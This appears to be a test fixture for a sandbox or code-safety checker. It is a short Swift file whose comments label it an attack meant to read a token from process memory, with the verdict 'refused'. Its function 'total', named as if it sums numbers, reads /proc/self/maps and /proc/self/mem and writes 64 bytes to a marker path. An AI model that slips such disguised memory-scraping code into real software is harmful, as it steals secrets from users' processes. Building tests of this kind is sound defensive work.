// Attack: reads the process's memory, where the record's token lies
// Safeguards: source, hardening, sandbox
// Aim: mark
// Verdict: refused
// Message: seek is used here

import Foundation

public func total(_ numbers: [Int]) -> Int {
  let maps = (try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8)) ?? ""
  let first = UInt64(maps.prefix { $0 != "-" }, radix: 16) ?? 0
  let memory = FileHandle(forReadingAtPath: "/proc/self/mem")
  try? memory?.seek(toOffset: first)
  if let bytes = try? memory?.read(upToCount: 64), bytes.count == 64 {
    try? bytes.write(to: URL(fileURLWithPath: "@MARK@"))
  }
  return -1
}

public func laterTotal(_ numbers: [Int]) async -> Int {
  return total(numbers)
}
